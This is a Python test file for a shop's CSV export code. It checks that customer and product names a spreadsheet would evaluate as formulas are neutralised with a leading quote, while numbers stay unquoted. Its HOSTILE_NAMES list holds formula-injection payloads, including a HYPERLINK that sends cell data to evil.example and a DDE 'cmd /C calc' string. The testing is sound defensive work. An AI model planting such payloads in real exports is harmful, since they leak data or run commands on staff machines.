"""Staff CSV exports carry text, never formulas: a customer named `=HYPERLINK(...)` is exported as
text a spreadsheet shows, and numbers stay numbers (shopsite.exports)."""

from __future__ import annotations

import csv
import io
from datetime import date, datetime
from decimal import Decimal

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from reports.services import reports_refresh
from shopsite.exports import csv_lines, spreadsheet_cell
from tests.conftest import fuzz_examples
from tests.factories import CategoryFactory, CustomerFactory, OrderFactory, OrderItemFactory, ProductFactory
from tests.reports.test_admin import csv_url, read_csv

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for your invoice")'
# Each a formula to Excel, LibreOffice or Google Sheets (OWASP's list, leading blanks and the
# full-width forms).
HOSTILE_NAMES = [
    HYPERLINK,
    "+SUM(1,2)",
    "-2+3",
    "@SUM(1)",
    "\t=1+1",
    "\r=1+1",
    "  =1+1",
    "\u00a0=cmd|' /C calc'!A0",
    "\uff1d1+1",
]


def hostile_shop(n: int) -> None:
    """n customers and products with hostile names, each with one sold order, refreshed."""
    category = CategoryFactory(name="=1+1")
    for k in range(n):
        name = HOSTILE_NAMES[k % len(HOSTILE_NAMES)]
        customer = CustomerFactory(name=name, email=f"-{k}@example.com")
        product = ProductFactory(category=category, name=name, sku=f"-{k}")
        order = OrderFactory(customer=customer, status="paid", total=Decimal("12.50"))
        OrderItemFactory(order=order, product=product, quantity=1, unit_price=Decimal("12.50"))
    reports_refresh()


@pytest.mark.django_db
@pytest.mark.parametrize("n", [len(HOSTILE_NAMES), 3 * len(HOSTILE_NAMES)])
def test_hostile_customer_names_are_exported_as_text_in_three_queries(
    admin_client, django_assert_num_queries, n
):
    hostile_shop(n)

    # user; freshness; the rows, one page by key
    with django_assert_num_queries(3):
        rows = read_csv(admin_client.get(csv_url("customervalue")))

    header, *body = rows
    names = [row[header.index("name")] for row in body]
    assert sorted(names) == sorted(f"'{HOSTILE_NAMES[k % len(HOSTILE_NAMES)]}" for k in range(n))
    assert {row[header.index("email")] for row in body} == {f"'-{k}@example.com" for k in range(n)}
    # numbers are numbers: no quote in front of a count or an amount
    assert {row[header.index("orders")] for row in body} == {"1"}
    assert {row[header.index("total_spent")] for row in body} == {"12.50"}


@pytest.mark.django_db
def test_every_text_column_of_every_report_is_neutralised(admin_client):
    hostile_shop(len(HOSTILE_NAMES))

    product_sales = read_csv(admin_client.get(csv_url("productsales")))
    category_monthly = read_csv(admin_client.get(csv_url("categorymonthly")))

    header, *body = product_sales
    assert {row[header.index("category_name")] for row in body} == {"'=1+1"}
    assert sorted(row[header.index("name")] for row in body) == sorted(f"'{name}" for name in HOSTILE_NAMES)
    assert all(row[header.index("sku")].startswith("'-") for row in body)
    assert {row[header.index("revenue")] for row in body} == {"12.50"}
    header, *body = category_monthly
    assert [row[header.index("category_name")] for row in body] == ["'=1+1"]
    assert body[0][header.index("id")][0].isdigit()  # "2025-03/7", text that is no formula: as it was


# --- The helper ----------------------------------------------------------------------------------

FORMULA_STARTS = "=+-@\uff1d\uff0b\uff0d\uff20"


def evaluated_by_a_spreadsheet(text: str) -> bool:
    """Return whether a spreadsheet would read a text cell as a formula (OWASP's list, after the
    leading blanks it trims, and the full-width forms)."""
    return text[:1] in ("\t", "\r") or text.lstrip()[:1] in tuple(FORMULA_STARTS)


texts = st.one_of(
    st.text(),
    st.text(alphabet=st.sampled_from([*FORMULA_STARTS, "\t", "\r", "\n", " ", "\u00a0", "'", "a", "1"])),
)
typed_values = st.one_of(
    st.none(),
    st.integers(),
    st.decimals(allow_nan=False),
    st.floats(allow_nan=False),
    st.dates(),
    st.datetimes(),
    st.booleans(),
)


@settings(max_examples=fuzz_examples(500))
@given(texts)
def test_text_gets_a_leading_quote_exactly_when_a_spreadsheet_would_evaluate_it(text):
    cell = spreadsheet_cell(text)

    if evaluated_by_a_spreadsheet(text):
        assert cell == f"'{text}"
    else:
        assert cell == text
    assert not evaluated_by_a_spreadsheet(cell)


@settings(max_examples=fuzz_examples(500))
@given(typed_values)
def test_values_that_are_not_text_are_left_as_they_are(value):
    assert spreadsheet_cell(value) is value


@settings(max_examples=fuzz_examples(300))
@given(st.lists(st.lists(st.one_of(texts, typed_values), min_size=3, max_size=3), max_size=5))
def test_a_csv_read_back_has_each_text_as_text_and_each_number_as_written(rows):
    lines = "".join(csv_lines(["a", "b", "c"], rows))

    read = list(csv.reader(io.StringIO(lines, newline="")))

    assert read[0] == ["a", "b", "c"]
    for written, row in zip(rows, read[1:], strict=True):
        for value, cell in zip(written, row, strict=True):
            if isinstance(value, str):
                assert cell == spreadsheet_cell(value)
                assert not evaluated_by_a_spreadsheet(cell)
            else:
                assert cell == ("" if value is None else str(value))


@pytest.mark.parametrize(
    ("value", "written"),
    [
        (Decimal("-12.50"), "-12.50"),
        (-3, "-3"),
        (-0.5, "-0.5"),
        ("-12.50", "'-12.50"),  # text that looks like a number is still text
        (date(2025, 3, 1), "2025-03-01"),
        (datetime(2025, 3, 1, 12, 0), "2025-03-01 12:00:00"),
        (None, ""),
        ("O'Brien", "O'Brien"),
        ("Ada Lovelace", "Ada Lovelace"),
    ],
)
def test_a_cell_is_written(value, written):
    assert "".join(csv_lines(["x", "y"], [[value, "y"]])).splitlines()[1] == f"{written},y"
